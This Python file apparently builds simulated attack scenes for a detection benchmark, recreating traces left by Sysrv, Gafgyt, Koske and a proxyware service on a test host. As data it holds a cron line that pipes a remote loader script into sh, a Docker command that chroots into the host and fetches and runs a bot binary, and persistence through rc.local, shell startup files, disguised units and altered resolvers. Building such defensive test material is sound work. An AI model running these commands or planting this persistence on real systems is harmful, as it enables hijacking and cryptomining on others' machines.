"""Miners, bots and what they leave so that they come back, as incident reports of 2019 to 2026 describe them (TA0040)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def sysrv(host: Host) -> None:
    """T1496, T1210: Sysrv: a worm of random name that tries its neighbours, its mark on a loopback port, the miner as kthreaddk."""
    row = scene.work(host)
    uid, folder = row["uid"], f"/tmp/.{scene.digest('sysrv', 6)}"
    name = scene.digest("sysrv worm", 7)
    scene.put(host, f"{folder}/{name}", mode="0755", uid=uid)
    worm = scene.spawn(host, f"{folder}/{name}", name, uid=uid, cwd=folder, static=True, threads=11)
    miner = scene.spawn(host, f"{folder}/kthreaddk", "kthreaddk", uid=uid, parent=worm, on_disk="0", static=True, threads=6)  # fmt: skip
    scene.listen(host, worm, 52_013, "127.0.0.1")
    for last in range(40, 52):
        scene.connect(host, worm, f"10.20.11.{last}", (6379, 8080, 7001)[last % 3])
    scene.connect(host, miner, "198.51.100.24", 3333)
    job = "curl -s http://198.51.100.25/ldr.sh | sh"
    scene.cron(host, scene.spool(host, scene.user_of(host, uid)), "*/30 * * * *", job)


def gafgyt_docker(host: Host) -> None:
    """T1610, T1498: Gafgyt on open Docker APIs: an alpine container with the host's root starts `rbot` on the host itself."""
    scene.container(
        host, "vigorous_noether", "docker.example/library/alpine:latest", "/usr/sbin/chroot /mnt sh -c 'curl http://203.0.113.22/rbot -o /root/rbot; /root/rbot'",
        mounts=(("/", "/mnt"),),
    )  # fmt: skip
    pid = scene.spawn(host, "/root/rbot", "/root/rbot", cwd="/root", static=True, threads=3)
    scene.connect(host, pid, "203.0.113.22", 3269)


def koske(host: Host) -> None:
    """T1027.003, T1496: Koske: come in a picture; start-up files of the shell, rc.local, a job each half hour, the resolver set, a unit."""
    home = next(row["directory"] for row in host.tables["users"] if row["username"] == "deploy")
    uid = scene.uid_of(host, "deploy")
    for name in (".bashrc", ".bash_logout"):
        scene.put(host, f"{home}/{name}", "koske", uid=uid)
    scene.put(host, "/etc/rc.local" if scene.debian(host) else "/etc/rc.d/rc.local", "koske", mode="0755")
    scene.cron(host, scene.spool(host, "deploy"), "*/30 * * * *", f"{home}/.koske >/dev/null 2>&1")
    scene.unit(host, "koske-helper.service", "Network helper")
    scene.put(host, "/etc/resolv.conf", "two public servers")
    host.remove("dns_resolvers", type="nameserver")
    for place, address in enumerate(("192.0.2.1", "192.0.2.2")):
        host.add("dns_resolvers", id=place, type="nameserver", address=address, options=705)
    scene.put(host, f"{home}/.koske", mode="0755", uid=uid)
    pid = scene.spawn(host, f"{home}/.koske", f"{home}/.koske", uid=uid, unit="koske-helper.service", static=True, threads=8)  # fmt: skip
    scene.connect(host, pid, "192.0.2.187", 443)


def bandwidth_unit(host: Host) -> None:
    """T1496.002: the line sold to others by a signed client, as a unit that calls itself an update service."""
    scene.put(host, "/etc/pawns/config", mode="0600", age_s=900_000)
    scene.unit(host, "network-updates.service", "Network Updates Service", age_s=900_000)
    pid = scene.spawn(
        host, "/usr/local/bin/network-updates", "/usr/local/bin/network-updates -accept-tos", unit="network-updates.service", static=True, threads=9,
        uid=scene.uid_of(host, "deploy"), age_s=20_000,
    )  # fmt: skip
    for last in (90, 91, 92):
        scene.connect(host, pid, f"198.51.100.{last}", 443)


ATTACKS = (sysrv, gafgyt_docker, koske, bandwidth_unit)
